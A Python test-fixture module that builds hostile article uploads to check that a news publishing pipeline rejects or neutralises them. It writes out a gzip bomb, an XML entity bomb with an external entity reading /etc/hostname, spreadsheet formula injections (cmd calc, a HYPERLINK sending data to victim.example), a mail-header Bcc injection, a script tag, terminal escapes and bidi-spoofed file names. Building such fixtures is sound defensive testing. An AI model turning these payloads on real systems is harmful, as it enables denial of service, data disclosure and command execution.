"""Large and malicious uploads, made by code, each with the ways in which it may end.

An end is `published` or the reason of a rejection. No upload may slow, crash or poison the pipeline, and none may reach
a subscriber as it is.
"""

import gzip
import json
import random
import re
import struct
import zlib
from collections.abc import Callable, Iterator
from html import escape
from pathlib import Path
from typing import NamedTuple

PUBLISHED = "published"
PARAGRAPHS = (Path(__file__).parent / "hostile_article.txt").read_text(encoding="utf-8").strip().split("\n\n")
TITLE = "Harbour that counted one boat too many starts again"
WORDS = sorted(set(re.findall(r"[a-z]{3,}", " ".join(PARAGRAPHS))))


class HostilePage(NamedTuple):
    name: str
    body: bytes
    ends: frozenset[str]


def page(title: str = escape(TITLE), article: str = "", head: str = "") -> bytes:
    """A plain article page; `title` and `article` are markup."""
    article = article or "".join(f"<p>{paragraph}</p>\n" for paragraph in PARAGRAPHS)
    return (
        f'<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>{title}</title>{head}'
        f'<meta property="article:published_time" content="2024-04-06T09:30:00+00:00"></head>\n'
        f'<body><nav><a href="/">Home</a></nav><main><article><h1>{title}</h1>\n'
        f"{article}</article></main></body></html>\n"
    ).encode("utf-8", "surrogatepass")


def ends(*ways: str) -> frozenset[str]:
    return frozenset(ways)


def empty_file() -> HostilePage:
    return HostilePage("empty-file.html", b"", ends("empty"))


def folder_marker() -> HostilePage:
    """The empty object that the console writes when a person makes a folder."""
    return HostilePage("a-folder/", b"", ends("empty"))


def thirty_megabytes() -> HostilePage:
    filler = "".join(f"<p>{paragraph}</p>" for paragraph in PARAGRAPHS)
    return HostilePage(
        "thirty-megabytes.html", page(article=filler * (30_000_000 // len(filler) + 1)), ends("too-large")
    )


def image_named_html() -> HostilePage:
    return HostilePage("image-named.html", tiny_png(), ends("not-html"))


def tiny_png() -> bytes:
    """A valid grey picture whose comment pretends to be a page."""
    pixels = zlib.compress(b"".join(b"\0" + bytes(range(0, 240, 8)) for _ in range(30)))
    parts = (
        (b"IHDR", struct.pack(">IIBBBBB", 30, 30, 8, 0, 0, 0, 0)),
        (b"tEXt", b"Comment\0" + page()),
        (b"IDAT", pixels),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(kind, data) for kind, data in parts)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def gzipped_page() -> HostilePage:
    return HostilePage("gzip-encoded.html", gzip.compress(page(), mtime=0), ends(PUBLISHED))


def gzip_bomb() -> HostilePage:
    """About 100 KB that decompress to 100 MB."""
    return HostilePage(
        "gzip-bomb.html", gzip.compress(b"<p>tide " + b" " * 100_000_000, mtime=0), ends("too-large", "too-complex")
    )


def nested(depth: int, *allowed: str) -> HostilePage:
    """An article at the bottom of `depth` elements."""
    article = "<div>" * depth + "".join(f"<p>{paragraph}</p>" for paragraph in PARAGRAPHS) + "</div>" * depth
    return HostilePage(f"nested-{depth}.html", page(article=article), ends(*allowed))


def five_thousand_nested() -> HostilePage:
    return nested(5_000, PUBLISHED)


def hundred_thousand_nested() -> HostilePage:
    return nested(100_000, PUBLISHED, "too-complex")


def nul_bytes() -> HostilePage:
    """A page with NUL bytes between and inside words."""
    return HostilePage(
        "nul-bytes.html", page().replace(b"boats", b"bo\0ats").replace(b"<p>", b"\0\0<p>\0"), ends(PUBLISHED)
    )


def entity_bomb() -> HostilePage:
    """A document type with entities that a careless parser would expand to a billion words."""
    entities = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10))
    entities += '<!ENTITY file SYSTEM "file:///etc/hostname">'
    doctype = f'<?xml version="1.0"?>\n<!DOCTYPE html [<!ENTITY e0 "tide ">{entities}]>\n'
    body = page(article=f"<p>&e9;</p><p>&file;</p>{''.join(f'<p>{paragraph}</p>' for paragraph in PARAGRAPHS)}")
    return HostilePage("entity-bomb.html", doctype.encode() + body.split(b"\n", 1)[1], ends(PUBLISHED, "not-html"))


def mail_header_title() -> HostilePage:
    """A title that tries to add a recipient to an e-mail, to ring a bell and to reverse the order of letters."""
    header = "Harbour&#13;&#10;Bcc: everyone@victim.example&#13;&#10;&#13;&#10;"
    title = f"{header}counts\u202e again\u2066 \u0007\u2028\u200bboats\u2069"
    return HostilePage("mail-header-title.html", page(title=title), ends(PUBLISHED))


FORMULAS = (
    '=HYPERLINK("https://victim.example/?"&A1,"Harbour counts again")',
    "+SUM(1,1)*cmd|' /C calc'!A0 and other harbour figures",
    "-2+3+cmd|' /C calc'!A0 boats counted",
    "@SUM(1+1)*2 boats seen at the inlet",
)


def formula_titles() -> list[HostilePage]:
    """Titles that a spreadsheet would run as formulas. They start with =, +, - and @."""
    return [
        HostilePage(f"formula-{at}.html", page(title=escape(formula)), ends(PUBLISHED))
        for at, formula in enumerate(FORMULAS)
    ]


def markup_title() -> HostilePage:
    return HostilePage(
        "markup-title.html",
        page(title=escape("<script>alert(1)</script> <b>Harbour</b> counts again")),
        ends(PUBLISHED),
    )


def sentences(seed: int, count: int) -> Iterator[str]:
    """Sentences of twelve words without a meaning. The same seed gives the same sentences."""
    choose = random.Random(seed)
    return (f"{' '.join(choose.choices(WORDS, k=12)).capitalize()}." for _ in range(count))


def beyond_the_item_limit() -> HostilePage:
    """An article of 120,000 words, which is more than a message of a queue or an item of a table can hold."""
    article = "".join(f"<p>{' '.join(group)}</p>\n" for group in zip(*[sentences(4, 10_000)] * 5, strict=True))
    return HostilePage("beyond-the-item-limit.html", page(article=article), ends(PUBLISHED))


def one_huge_paragraph() -> HostilePage:
    """A page of about 10 MB with one paragraph."""
    article = f"<p>{' '.join(sentences(5, 125_000))}</p>"
    return HostilePage("one-huge-paragraph.html", page(article=article), ends(PUBLISHED, "too-large"))


def huge_table() -> HostilePage:
    rows = "".join(f"<tr><td>Boat {i}</td><td>{i % 97}</td></tr>" for i in range(200_000))
    first = "".join(f"<p>{paragraph}</p>" for paragraph in PARAGRAPHS)
    return HostilePage("huge-table.html", page(article=f"{first}<table>{rows}</table>"), ends(PUBLISHED, "too-complex"))


def megabyte_attribute() -> HostilePage:
    head = f'<meta name="description" content="{"tide " * 200_000}">'
    return HostilePage("megabyte-attribute.html", page(head=head), ends(PUBLISHED))


def unclosed_everything() -> HostilePage:
    """A thousand elements that nothing closes, and an end in the middle of a tag."""
    opened = "".join(f"<b><i><font><table><tr><td><p>{PARAGRAPHS[i % len(PARAGRAPHS)]}" for i in range(200))
    return HostilePage(
        "unclosed-everything.html",
        page().split(b"</article>")[0] + opened.encode() + b"<a href='",
        ends(PUBLISHED, "too-complex"),
    )


def json_ld_page(**fields: str) -> bytes:
    """An article page that says this of itself in JSON-LD, halves of characters included."""
    return page(head=f'<script type="application/ld+json">{json.dumps({"@type": "NewsArticle", **fields})}</script>')


def many_full_stops() -> HostilePage:
    """61 KB of full stops in one paragraph: a careless pattern looks at the rest of them from each one."""
    article = "".join(f"<p>{paragraph}</p>" for paragraph in PARAGRAPHS) + f"<p>{PARAGRAPHS[0]}{'.' * 61_000}x</p>"
    return HostilePage("many-full-stops.html", page(article=article), ends(PUBLISHED))


def half_a_character_in_a_headline() -> HostilePage:
    return HostilePage("half-headline.html", json_ld_page(headline="Harbour \ud83d counts again"), ends(PUBLISHED))


def half_a_character_in_an_address() -> HostilePage:
    return HostilePage("half-address.html", json_ld_page(url="https://a.example/\udfff/x"), ends(PUBLISHED))


def unseen_in_addresses() -> HostilePage:
    """No character, a terminal's escape and a mark of direction in the addresses of page and picture."""
    address = "https://a.example/x\uffff\x1b]0;pwned\x07y\u202egpj.exe"
    head = f'<link rel="canonical" href="{address}"><meta property="og:image" content="{address}">'
    return HostilePage("unseen-in-addresses.html", page(head=head), ends(PUBLISHED))


def unseen_in_site() -> HostilePage:
    head = '<meta property="og:site_name" content="The\u200e Harrow\u2066field\u200f Courier">'
    return HostilePage("unseen-in-site.html", page(head=head), ends(PUBLISHED))


def alternating_marks() -> HostilePage:
    """A letter with 200,000 marks above and below in turn: to sort them takes the square of their number."""
    title = "Harbour counts a" + "\u0301\u0323" * 100_000
    article = "".join(f"<p>{paragraph}</p>" for paragraph in PARAGRAPHS) + f"<p>{title} boats again.</p>"
    return HostilePage("alternating-marks.html", page(title=title, article=article), ends(PUBLISHED))


def empty_gzip_members() -> HostilePage:
    """A page whose stream goes on in 100,000 empty parts."""
    body = gzip.compress(page(), mtime=0) + gzip.compress(b"", mtime=0) * 100_000
    return HostilePage("empty-gzip-members.html", body, ends(PUBLISHED))


def archive_of_dashes() -> HostilePage:
    """A web archive whose boundary is a dash, of nothing but dashes."""
    head = b'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="-"\n\n'
    return HostilePage("archive-of-dashes.mhtml", head + b"---\n" * 1_000_000, ends("not-html"))


MAKERS: tuple[Callable[[], HostilePage], ...] = (
    empty_file,
    folder_marker,
    image_named_html,
    gzipped_page,
    gzip_bomb,
    five_thousand_nested,
    hundred_thousand_nested,
    nul_bytes,
    entity_bomb,
    mail_header_title,
    markup_title,
    beyond_the_item_limit,
    one_huge_paragraph,
    huge_table,
    megabyte_attribute,
    unclosed_everything,
    thirty_megabytes,
    many_full_stops,
    half_a_character_in_a_headline,
    half_a_character_in_an_address,
    unseen_in_addresses,
    unseen_in_site,
    alternating_marks,
    empty_gzip_members,
    archive_of_dashes,
)

HOSTILE_NAMES = (
    "with spaces and + plus.html",
    "hundred%25percent %2e%2e.html",
    "日本語/ニュース.html",
    "أخبار.html",
    "emoji-🗞️.html",
    "quote'\"<b>&amp;.html",
    "very/" * 40 + "deep.html",
)


def hostile_pages() -> list[HostilePage]:
    """Every hostile page, about 65 MB in all."""
    return [make() for make in MAKERS] + formula_titles()
